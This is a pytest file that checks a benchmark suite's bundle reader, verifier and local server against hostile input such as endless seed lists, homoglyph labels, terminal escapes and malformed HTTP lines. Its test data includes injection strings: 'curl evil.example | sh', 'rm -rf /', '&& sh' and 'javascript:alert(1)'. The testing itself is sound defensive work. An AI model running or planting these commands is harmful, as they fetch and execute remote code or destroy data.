"""Bundles that were made to hurt: each is one line, in little time and memory, and what it says is nobody's command."""

from __future__ import annotations

import json
import resource
import socket
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

REPOSITORY = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPOSITORY / "tests" / "publishing"))

from bundles import change_head, complaints, hash_again, made, registry, rezip, small_bundle, written_parts  # noqa: E402

from nasbench_suite.errors import BundleError  # noqa: E402
from nasbench_suite.publishing import Bundle, make_server, read_bundle, verify, write_bundle, write_published  # noqa: E402
from nasbench_suite.publishing.publish import check_seeds  # noqa: E402
from nasbench_suite.publishing.rerun import Limits  # noqa: E402

MEMORY = 3 * 2**30
"""Bytes of address space for a reader; a bundle of some hundred bytes must not need more."""

SECONDS = 60
"""A hostile bundle is refused long before; one that is not would run for hours."""


@pytest.fixture(scope="module")
def parts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    return dict(written_parts(tmp_path_factory.mktemp("hostile")))


def refused(parts: dict[str, bytes], path: Path) -> str:
    """What a limited process of its own says of a bundle; it must be one line, and no traceback."""
    hash_again(parts)
    rezip(parts, path)
    done = subprocess.run(
        [sys.executable, "-m", "nasbench_suite.cli", "verify", str(path)],
        capture_output=True,
        text=True,
        timeout=SECONDS,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY)),
    )
    assert done.returncode in (1, 2), (done.returncode, done.stdout[-500:], done.stderr[-500:])
    assert "Traceback" not in done.stderr and "Error" not in done.stderr.replace("Error:", ""), done.stderr[-500:]
    return done.stdout + done.stderr


def head(change: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, bytes]], None]:
    def applied(parts: dict[str, bytes]) -> None:
        change_head(parts, lambda held: (change(held), None)[1])

    return applied


def first_run(change: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, bytes]], None]:
    def applied(parts: dict[str, bytes]) -> None:
        lines = parts["runs/0.jsonl"].decode().splitlines()
        run = json.loads(lines[0])
        change(run)
        parts["runs/0.jsonl"] = ("\n".join([json.dumps(run), *lines[1:]]) + "\n").encode()

    return applied


ENDLESS: dict[str, Callable[[dict[str, bytes]], None]] = {
    "seeds far apart": head(lambda h: h["comparison"].update(seeds=[0, 4611686018427387904])),
    "seeds at the end of all numbers": head(lambda h: h["comparison"].update(seeds=[2**63 - 2, 2**63 - 1])),
    "a hundred thousand seeds": head(lambda h: h["comparison"].update(seeds=list(range(90_000)))),
    "more seeds than are read": head(lambda h: h["comparison"].update(seeds=list(range(200_000)))),
    "a journal of millions of places": first_run(lambda run: run.update(journal=[0] * 3_000_000)),
    "own times without events": first_run(lambda run: run.update(own=[1] * 3_000_000)),
    "one source named again and again": head(
        lambda h: h["rows"][0].update(sources=[h["rows"][0]["sources"][0]] * 10**6)
    ),
    "empty lists under an unknown name": head(lambda h: h.update(more=[[]] * 6_000_000)),
    "an unknown name in a row": head(lambda h: h["rows"][0].update(more=[[]] * 100)),
    "an unknown name in a run": first_run(lambda run: run.update(more=[[]] * 100)),
    "an unknown name in a benchmark": head(lambda h: h["benchmarks"][0].update(more={})),
    "fidelities without end": head(lambda h: h["benchmarks"][0].update(fidelities=list(range(10**6)))),
    "parameters without end": head(lambda h: h["rows"][0].update(parameters={str(n): 0 for n in range(10**5)})),
    "a leaderboard of empty objects": lambda parts: parts.update(
        {"leaderboard.json": b'{"strategies": [' + b"{}," * 6_000_000 + b"{}]}"}
    ),
    "a number of ten thousand digits": head(lambda h: h["rows"][0].update(parameters={"a": 10**4000})),
}


@pytest.mark.parametrize("kind", ENDLESS)
def test_what_would_never_end_is_refused_at_once(kind: str, parts: dict[str, bytes], tmp_path: Path) -> None:
    damaged = dict(parts)
    ENDLESS[kind](damaged)
    assert refused(damaged, tmp_path / "x.zip")


EVIL = "x --index-url http://evil.example; curl evil.example | sh"
DISGUISED: dict[str, Callable[[dict[str, Any]], object]] = {
    "a Cyrillic letter": lambda h: h["rows"][0].update(label="local-sеarch"),
    "a blank at the end": lambda h: h["rows"][0].update(label="local-search "),
    "a blank that has no width": lambda h: h["rows"][0].update(label="local\u200b-search"),
    "two blanks": lambda h: h["rows"][0].update(label="local  search"),
    "no label": lambda h: h["rows"][0].update(label=""),
    "a full-width letter": lambda h: h["rows"][0].update(strategy="ｌocal-search"),
    "a package with a command": lambda h: h["rows"][0].update(package=EVIL),
    "a package that is an option": lambda h: h["rows"][0].update(package="--pre"),
    "a loose file with a path": lambda h: h["rows"][0].update(origin="file", package="../../x.py"),
    "a version with a command": lambda h: h["rows"][0].update(version="1; rm -rf /"),
    "a paper that is a script": lambda h: h["rows"][0].update(paper="javascript:alert(1)"),
    "a paper that leaves its quotes": lambda h: h["rows"][0].update(paper='https://a.b/" onclick="x'),
    "a title of two lines": lambda h: h["comparison"].update(title="a\n# b"),
    "a title that steers terminals": lambda h: h["comparison"].update(title="a\x1b]0;b\x07"),
    "a description that steers terminals": lambda h: h["comparison"].update(description="a\x9b2J"),
    "a citation without end": lambda h: h["comparison"].update(citation="a" * 10**6),
    "an environment with a command": lambda h: h["environments"][0]["packages"].update({EVIL: "1"}),
    "a version of a package with a command": lambda h: h["environments"][0]["packages"].update(numpy="1 && sh"),
    "a provenance that steers terminals": lambda h: h["benchmarks"][0]["provenance"].update({"a\x1b[2J": "b"}),
    "a suite with a command": lambda h: h["suite"].update(package=EVIL),
}


@pytest.mark.parametrize("kind", DISGUISED)
def test_names_are_names(kind: str, parts: dict[str, bytes], tmp_path: Path) -> None:
    damaged = dict(parts)
    change_head(damaged, lambda held: (DISGUISED[kind](held), None)[1])
    with pytest.raises(BundleError) as raised:
        read_bundle(rezip(damaged, tmp_path / "x.zip"))
    told = str(raised.value)
    assert told.isprintable() and len(told) < 500, told


@pytest.mark.parametrize("strategy", ["random-search", "local-search"])
def test_nobody_else_bears_the_name_of_a_strategy_of_the_suite(
    strategy: str, parts: dict[str, bytes], tmp_path: Path
) -> None:
    def change(held: dict[str, Any]) -> None:
        (row,) = (row for row in held["rows"] if row["label"] == strategy)
        row.update(origin="file", package="lucky.py", sources=[])

    damaged = dict(parts)
    change_head(damaged, change)
    hash_again(damaged)
    found = complaints(rezip(damaged, tmp_path / "x.zip"))
    assert any(f"row {strategy}" in line and "comes from lucky.py" in line for line in found), found


@pytest.mark.parametrize("outcome", ["timeout", "died", "memory", "not run"])
def test_runs_that_are_said_not_to_have_finished_are_counted_beside_the_badge(outcome: str, tmp_path: Path) -> None:
    from test_tampering import scored_again

    bundle = small_bundle()
    pair = ("random-search", bundle.sites[0].name)
    record = bundle.records[pair][0]
    kept = {} if outcome != "not run" else {"journal": (), "own_seconds": (), "spent": 0.0, "answer": None}
    from nasbench_suite.publishing.bundle import digest

    forged = replace(record, outcome=outcome, reason="", **kept)
    forged = replace(forged, digest=digest(forged.journal))
    records = {p: dict(runs) for p, runs in bundle.records.items()}
    records[pair][0] = forged
    path = write_bundle(scored_again(replace(bundle, records=records)), tmp_path / "x.zip")
    found = verify(read_bundle(path), registry())
    assert found.unfinished == {"random-search": {outcome: 1}}
    done = subprocess.run(
        [sys.executable, "-m", "nasbench_suite.cli", "verify", str(path)],
        capture_output=True,
        text=True,
        timeout=SECONDS,
    )
    assert f"1 runs claimed and not checked: 1 {outcome}" in done.stdout and "all is as claimed" not in done.stdout


def test_the_verifier_sets_the_limits_of_what_is_run_again() -> None:
    comparison = replace(small_bundle().comparison, time_limit=1e9, memory_limit=2**40)
    limited = Limits(20.0, 512).applied_to(comparison)
    assert (limited.time_limit, limited.memory_limit) == (20.0, 512)
    lower = Limits(20.0, 512).applied_to(replace(comparison, time_limit=3.0, memory_limit=64))
    assert (lower.time_limit, lower.memory_limit) == (3.0, 64)


@pytest.mark.parametrize("seeds", [[0, 2**62], [5, 7], [3, 1], [*range(10**5), 10**9]])
def test_a_gap_between_seeds_costs_nothing_to_find(seeds: list[int]) -> None:
    with pytest.raises(BundleError, match="is left out between"):
        check_seeds(seeds)


@pytest.mark.parametrize(
    "change",
    [
        lambda bundle: replace(bundle, comparison=replace(bundle.comparison, title="two\nlines")),
        lambda bundle: replace(bundle, members=tuple(replace(m, paper="see our site") for m in bundle.members)),
    ],
)
def test_what_no_reader_would_accept_is_not_published(change: Callable[[Bundle], Bundle], tmp_path: Path) -> None:
    path = tmp_path / "x.nasbench.zip"
    path.write_bytes(b"what was there before")
    with pytest.raises(BundleError, match="cannot be published"):
        write_published(change(small_bundle()), path)
    assert path.read_bytes() == b"what was there before" and list(tmp_path.iterdir()) == [path]


LINES = [
    b"GET http://[ HTTP/1.1",
    b"GET http://[::1/x HTTP/1.1",
    b"GET \xff\xfe HTTP/1.1",
    b"GET / HTTP/9.9",
    b"GET " + b"/a" * 40_000 + b" HTTP/1.1",
    b"\x16\x03\x01\x02\x00\x01",
    b"BREW / HTTP/1.1",
]


def test_the_server_survives_every_request_line(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    import threading

    server = make_server(tmp_path)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        for line in LINES:
            with socket.create_connection(("127.0.0.1", server.server_address[1]), timeout=10) as connection:
                connection.sendall(line + b"\r\nHost: localhost\r\n\r\n")
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(65536):
                    pass
        with socket.create_connection(("127.0.0.1", server.server_address[1]), timeout=10) as connection:
            connection.sendall(b"GET / HTTP/1.0\r\nHost: localhost\r\n\r\n")
            assert b"200" in connection.recv(64)
    finally:
        server.shutdown()
        server.server_close()
    assert "Traceback" not in capfd.readouterr().err


DOCUMENTS = [
    b"",
    b"null",
    b"[]",
    b"{",
    b"\xff",
    b"[" * 100_000,
    b'{"comparison": {"title": "x"}, "strategies": 3, "benchmarks": []}',
    b'{"comparison": {"title": 3}, "strategies": [], "benchmarks": []}',
    b'{"comparison": {"title": "x", "seeds": 4}, "strategies": [], "benchmarks": []}',
    b'{"comparison": {"title": "x"}, "strategies": [], "benchmarks": [7]}',
    b'{"comparison": {"title": "x"}, "strategies": [], "benchmarks": [{"ranked": {}}]}',
    b'{"comparison": {"title": "x"}, "strategies": [], "benchmarks": [{"budget": []}]}',
]


@pytest.mark.parametrize("number", range(len(DOCUMENTS)))
def test_one_malformed_leaderboard_hides_no_other(number: int, tmp_path: Path) -> None:
    from nasbench_suite.publishing.serve import index_page

    for name, text in (
        ("bad", DOCUMENTS[number]),
        ("good", b'{"comparison": {"title": "Good"}, "strategies": [], "benchmarks": []}'),
    ):
        (tmp_path / name).mkdir()
        (tmp_path / name / "leaderboard.json").write_bytes(text)
    page = index_page(tmp_path)
    assert "Good" in page and "cannot be shown" in page


def test_a_lucky_range_of_seeds_keeps_no_place_of_its_own(tmp_path: Path) -> None:
    """Seeds that do not begin at 0 may have been chosen: without fresh ones their rows are not ranked by them."""
    path = write_bundle(made(seeds=range(40, 46), name="lucky"), tmp_path / "x.zip")
    found = verify(read_bundle(path), registry())
    assert any("seeds begin at 40" in note for note in found.notes), found.notes
